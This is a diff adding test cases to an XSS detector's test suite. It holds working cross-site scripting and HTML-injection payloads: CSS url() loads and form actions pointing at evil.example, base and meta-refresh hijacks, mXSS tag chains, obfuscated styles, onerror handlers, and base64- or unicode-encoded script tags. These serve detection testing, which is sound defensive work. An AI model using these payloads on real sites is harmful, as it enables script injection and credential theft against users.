@@ -110,6 +110,100 @@ describe('xssDetector layered encodings and less common vectors', () => {
   });
 });
 
+describe('xssDetector HTML injection without script, CSS injection, glued and re-encoded markup', () => {
+  const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
+
+  it.each([
+    ['<div style=content:url(//evil.example/a.svg)></div>', /^xss:style:url-document/],
+    ['<rect style="clip-path:url(x.svg#a);fill:url(#b)"/>', /^xss:style:url-document/],
+    ['<p style="cursor:url(https://evil.example/c.cur),auto">', /^xss:style:url-document/],
+  ])('flags a style url() that loads a document: %s', (payload, rule) => {
+    expect(detect(payload)?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
+    expect(detect(payload)?.detail).toMatch(rule);
+  });
+
+  it.each([
+    '<span style="background-image:url(https://cdn.example.com/hero.jpg)">Sale</span>',
+    '<div style="background:url(/img/bg.png) no-repeat">x</div>',
+    '<i style="background:url(data:image/png;base64,iVBORw0KGgo=)"></i>',
+  ])('keeps a picture in a style url() as a hint under the default threshold (rich text writes them): %s', (payload) => {
+    expect(detect(payload)?.confidence ?? 0).toBeLessThan(0.5);
+  });
+
+  it.each([
+    // elements dangerous without script: form hijack, foreign-content roots (mXSS), base, meta refresh
+    ['<form>', /^xss:form$/],
+    ['<form action=//evil.example/login>', /^xss:form:action/],
+    ['<math>', /^xss:tag:math/],
+    ['<svg>', /^xss:tag:svg/],
+    ['"><math><mtext><table><mglyph><style><!--</style>', /^xss:tag:(math|style)/],
+    ['<base href=//evil.example/>', /^xss:tag:base/],
+    ['<meta http-equiv=refresh content="0;url=//evil.example">', /^xss:meta:refresh/],
+    // style attributes that load resources or hide from filters
+    ["<x style=\"background:url('x&#1;;color:red;/*')\">X</x>", /^xss:style:obfuscated/],
+    ['<div style="background:url(/f#&#127;oo/;color:red/*/foo.jpg);">X', /^xss:style:obfuscated/],
+    ['<div style="background:url(/f#[a]oo/;color:red/*/foo.jpg);">X</div>', /^xss:style:obfuscated/],
+    ["<x style=\"background:url('x[a];color:red;/*')\">XXX</x>", /^xss:style:obfuscated/],
+    ['<div style="\\63&#9\\06f&#10\\0006c:red">X</div>', /^xss:style:obfuscated/],
+    ["<p style=\"font-family:'a\\27\\3B color\\3Ared'\">X</p>", /^xss:style:obfuscated/],
+    ['<p style="behavior:url(x.htc)">', /^xss:style:behavior/],
+    ['<p style="-moz-binding:url(//evil.example/x.xml#x)">', /^xss:style:moz-binding/],
+    // a handler glued to the tag name with separator junk
+    ['<img[1]src[2]=x[3]onerror=[4]"alert(1)">', /^xss:handler-glued:error\+script/],
+    ['<svg|onload=alert(1)>', /^xss:handler-glued:load\+script/],
+    // base64 that the peeler cannot take whole: percent-encoded alphabet, junk after the padding
+    [`${b64('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\r\n').replace(/\+/g, '%2B').replace(/=/g, '%3D')}"/>`, /^xss:tag:script/],
+    [`${b64('<img src=x onerror=alert(1)>')}"/>`, /^xss:handler:error/],
+  ])('detects %s', (payload, rule) => {
+    const d = detect(payload);
+    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
+    expect(d?.detail).toMatch(rule);
+  });
+
+  it.each([
+    // form-encoded spaces left in a value (a query string that was base64-encoded whole)
+    ['<img+src=x+onerror=alert(1)>', /^xss:handler:error\+script/],
+    ['<SCRIPT+FOR=document+EVENT=onreadystatechange>x()</SCRIPT>', /^xss:tag:script/],
+  ])('reads `+` as a form-encoded space in a peeled value: %s', (payload, rule) => {
+    const d = detect(payload, 'query.q[base64]', { encodings: ['base64'] });
+    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
+    expect(d?.detail).toMatch(rule);
+  });
+
+  it.each([
+    // the re-readings (data island, eighth bit) also apply to JS-decoded and strictly entity-decoded views
+    ['\\u003cXML ID\\u003d\\u0022x\\u0022\\u003e\\u0026lt;IMG SRC=\\u0022javas\\u003c!-- --\\u003ecript:alert(1)\\u0022\\u0026gt;\\u003c/XML\\u003e', /^xss:url:javascript/],
+    ['<XML ID=&#34;x&#34;>&lt&#59;IMG SRC=&#34;javas<!-- -->cript&#58;alert(1)&#34;&gt&#59;</XML>', /^xss:url:javascript/],
+    ['\\u00bcscript\\u00bealert(1)\\u00bc/script\\u00be', /^xss:tag:script/],
+  ])('combines a decoding layer with a re-reading: %s', (payload, rule) => {
+    const d = detect(payload);
+    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
+    expect(d?.detail).toMatch(rule);
+  });
+
+  it.each([
+    '<span style="color:red">x</span>',
+    '<p style="color:#333;font-weight:bold;margin:0 0 1em">x</p>',
+    '<p style="font-family:\'\\5FAE\\8F6F\\96C5\\9ED1\'">CJK font name</p>',
+    '<div style="width:100px\\9;height:20px">IE hack</div>',
+    '<q style="quotes:\'\\201C\' \'\\201D\'">x</q>',
+    '<svg:path style="fill:url(#grad)"/>',
+    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'%3E%3Cpath d='M0 0h8v8H0z'/%3E%3C/svg%3E",
+    'background:url("data:image/svg+xml;charset=utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")',
+    '<b>bold</b> <i>it</i> <p>para</p> <div>box</div> <br> <a href="https://example.com/x">link</a>',
+    'SGVsbG8gd29ybGQhIEhlbGxvIGFnYWluIQ=="/>',
+    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
+    'a<b+c and d<e+f',
+    'List<String+Integer> x',
+  ])('leaves %s', (value) => {
+    expect(conf(value)).toBeLessThan(0.5);
+  });
+
+  it('leaves `+` in an ordinary value alone', () => {
+    expect(conf('a<b+c', 'query.q[base64]', { encodings: ['base64'] })).toBeLessThan(0.5);
+  });
+});
+
 describe('xssDetector benign', () => {
   it.each([
     'a < b and b > c',
